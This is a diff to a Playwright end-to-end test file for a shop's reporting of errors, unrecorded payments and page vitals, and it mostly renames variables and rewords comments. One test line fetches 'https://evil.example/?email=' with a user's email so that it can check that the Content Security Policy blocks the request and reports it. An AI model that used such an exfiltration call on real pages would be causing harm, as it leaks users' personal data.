@@ -2,48 +2,49 @@ import { readFileSync } from 'node:fs'
 import type { Page } from '@playwright/test'
 import { fromRoot } from '#src/build/project.ts'
 import { expect, test as base } from '#tests/e2e/fixtures.ts'
-import { cardProvider, cards, payUnrecorded, type CardProvider } from '#tests/e2e/real/support/cardProvider.ts'
+import { cardProvider, cards, payWithoutRecording, type CardProvider } from '#tests/e2e/real/support/cardProvider.ts'
 import { createAccount, placeOrder } from '#tests/e2e/real/support/dbState.ts'
 import { expectStarted, heading, logIn } from '#tests/e2e/steps.ts'
-import { buildShop, gzippedKB, readManifest, findScripts } from '#tests/support/bundle.ts'
+import { buildShop, measureGzippedKB, readManifest, findScripts } from '#tests/support/bundle.ts'
 import { serveStatic } from '#tests/support/static.ts'
 import { reportPort } from '#tests/support/testConfig.ts'
 import { startReceiver, type ReceivedReport } from '#tests/tools/reports/receiver.ts'
 
 const reportUrl = `http://127.0.0.1:${reportPort}/`
 
-/** A production build with reporting, its URL, and the reports received from its pages. */
+/** A production build with reporting, its URL, and the reports that its pages have sent. */
 interface ReportingShop {
   dir: string
   url: string
-  received: ReceivedReport[]
+  receivedReports: ReceivedReport[]
 }
 
-/** Playwright's test for a build with VITE_REPORT_URL. Its pages may log errors, because these are the subject. */
-const test = base.extend<{ cardProvider: CardProvider; received: ReceivedReport[] }, { shop: ReportingShop }>({
+/** Playwright's `test` for a build with VITE_REPORT_URL. The pages may log errors, because the tests cause them. */
+const test = base.extend<{ cardProvider: CardProvider; receivedReports: ReceivedReport[] }, { shop: ReportingShop }>({
   shop: [
-    // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's needs from this pattern
+    // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's dependencies from this pattern
     async ({}, use) => {
       const dir = fromRoot('node_modules/.cache/reporting')
       buildShop(dir, { VITE_REPORT_URL: reportUrl })
-      const received: ReceivedReport[] = []
-      const receiver = await startReceiver(reportPort, (reports) => void received.push(...reports))
+      const receivedReports: ReceivedReport[] = []
+      const receiver = await startReceiver(reportPort, (reports) => void receivedReports.push(...reports))
       const host = await serveStatic({ dir, fallback: 'spa' })
-      await use({ dir, url: host.url, received })
+      await use({ dir, url: host.url, receivedReports })
       await Promise.all([host.stop(), receiver.stop()])
     },
     { scope: 'worker', timeout: 120_000 },
   ],
-  received: async ({ shop: { received } }, use) => {
-    received.length = 0
-    await use(received)
+  receivedReports: async ({ shop: { receivedReports } }, use) => {
+    receivedReports.length = 0
+    await use(receivedReports)
   },
   baseURL: ({ shop }, use) => use(shop.url),
   quietConsole: undefined,
   cardProvider,
 })
 
-// One worker, because the tests share a build and its receiver. The browser measures painted pages.
+// The tests run in one worker, because they share a build and the server that receives its reports. The pages are
+// painted, because the browser measures vitals only on painted pages.
 test.describe.configure({ mode: 'default' })
 test.use({ isPainted: true })
 
@@ -59,13 +60,13 @@ async function openPage(page: Page, path: string): Promise<void> {
   await isLoaded
 }
 
-/** Throws in the page, outside of every error boundary. */
+/** Throws an error in the page that no error boundary catches. */
 const throwError = (page: Page, message: string) =>
   page.evaluate((text) => void setTimeout(() => void Promise.reject(new TypeError(text))), message)
 
-/** Expects exactly these reports in addition to the vitals, without personal data. */
-async function expectReports(received: ReceivedReport[], ...expected: object[]): Promise<void> {
-  const reports = () => received.filter(({ type }) => type !== 'vitals')
+/** Expects exactly these reports besides those of vitals, and no personal data in them. */
+async function expectReports(receivedReports: ReceivedReport[], ...expected: object[]): Promise<void> {
+  const reports = () => receivedReports.filter(({ type }) => type !== 'vitals')
   await expect.poll(() => reports().map(({ type, body }) => ({ type, body }))).toMatchObject(expected)
   for (const { url, user_agent, age, body } of reports()) {
     expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[a-zA-Z/:]*$/)
@@ -73,7 +74,7 @@ async function expectReports(received: ReceivedReport[], ...expected: object[]):
     expect(age).toBeGreaterThanOrEqual(0)
     expect(body.release).toMatch(/^[\w.-]+$/)
   }
-  const text = JSON.stringify(reports().map(({ user_agent: _, ...rest }) => rest))
+  const text = JSON.stringify(reports().map(({ user_agent: _, ...checkedFields }) => checkedFields))
   for (const personalText of ['Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
     expect(text).not.toContain(personalText)
 }
@@ -81,7 +82,7 @@ async function expectReports(received: ReceivedReport[], ...expected: object[]):
 test.describe('a shop that reports', { tag: '@release' }, () => {
   test('an error is reported once, with its position in the files, and without typed text', async ({
     page,
-    received,
+    receivedReports,
   }) => {
     const error = `throw new TypeError('${rina.email} is not a function')`
     await page.route('**/assets/AboutRoute-*.js', (route) =>
@@ -94,49 +95,49 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
       type: 'error',
       body: { source: 'promise', name: 'TypeError', message: '… is not a function' },
     }
-    await expectReports(received, thrownReport)
+    await expectReports(receivedReports, thrownReport)
     await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'About' }).click()
     await expect(heading(page, 'We couldn’t load this')).toBeVisible()
     const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
     const caughtReport = { type: 'error', body: { source: 'boundary', page: 'about', stack } }
-    await expectReports(received, thrownReport, caughtReport)
+    await expectReports(receivedReports, thrownReport, caughtReport)
     await page.evaluate((email) => fetch(`https://evil.example/?email=${email}`).then(String, () => null), rina.email)
     const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'about' }
-    await expectReports(received, thrownReport, caughtReport, { type: 'csp-violation', body })
+    await expectReports(receivedReports, thrownReport, caughtReport, { type: 'csp-violation', body })
   })
 
   test('a payment that is charged but not recorded is reported, and reported again once it has recovered', async ({
     page,
-    received,
+    receivedReports,
     cardProvider: { charges },
   }) => {
     await createAccount(rina)
     const order = await placeOrder(rina, 'brake-rotor-345', 22)
     await openPage(page, `./dashboard/payment/${order}`)
     await logIn(page, rina)
-    const releaseRecords = await payUnrecorded(page)
+    const releaseRecords = await payWithoutRecording(page)
     const transactionId = expect.stringMatching(/^pi_\w+$/)
     const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
     const unrecordedReport = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
-    await expectReports(received, failedCall, unrecordedReport)
+    await expectReports(receivedReports, failedCall, unrecordedReport)
 
     await releaseRecords()
     await page.goto('./dashboard/mypurchases')
     await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
     const recoveredReport = { type: 'payment', body: { state: 'recovered', orderId: order } }
-    await expectReports(received, failedCall, unrecordedReport, recoveredReport)
+    await expectReports(receivedReports, failedCall, unrecordedReport, recoveredReport)
     expect(charges).toHaveLength(1)
   })
 
-  for (const [way, leave] of [
+  for (const [destination, leave] of [
     ['a page of the shop', (page, url) => page.goto(`${url}about`)],
     ['another host', (page, url) => page.goto(url.replace('127.0.0.1', 'localhost'))],
-    ['nothing, because its tab is closed', (page) => page.close({ runBeforeUnload: true })],
+    ['an empty screen, because the tab is closed', (page) => page.close({ runBeforeUnload: true })],
   ] satisfies [string, (page: Page, url: string) => Promise<unknown>][])
-    test(`the vitals of a page are reported when it is left for ${way}`, async ({
+    test(`the vitals of a page are reported when the visitor leaves it for ${destination}`, async ({
       browser,
       shop: { url },
-      received,
+      receivedReports,
     }) => {
       const context = await browser.newContext()
       const page = await context.newPage()
@@ -144,15 +145,17 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
       await page.waitForLoadState('networkidle')
       await leave(page, url)
       const body = { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' }
-      await expect.poll(() => received).toMatchObject([{ type: 'vitals', url: `${url}parts`, body }])
+      await expect.poll(() => receivedReports).toMatchObject([{ type: 'vitals', url: `${url}parts`, body }])
       await context.close()
     })
 
-  test('the first load grows by 0.4 kB, and the lazy reporting code has 5.5 kB (REPORT-3)', ({ shop: { dir } }) => {
+  test('reporting adds less than 0.4 kB to the first load, and less than 5.5 kB of lazy code (REPORT-3)', ({
+    shop: { dir },
+  }) => {
     expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
-    const getFirstLoadKB = (folder: string) => gzippedKB(folder, findScripts(readManifest(folder), 'index.html'))
+    const getFirstLoadKB = (folder: string) => measureGzippedKB(folder, findScripts(readManifest(folder), 'index.html'))
     expect(getFirstLoadKB(dir) - getFirstLoadKB('dist')).toBeLessThan(0.4)
     const reportingChunk = Object.entries(readManifest(dir)).find(([key]) => key.endsWith('/sendReports.ts'))
-    expect(gzippedKB(dir, [reportingChunk?.[1].file ?? ''])).toBeLessThan(5.5)
+    expect(measureGzippedKB(dir, [reportingChunk?.[1].file ?? ''])).toBeLessThan(5.5)
   })
 })
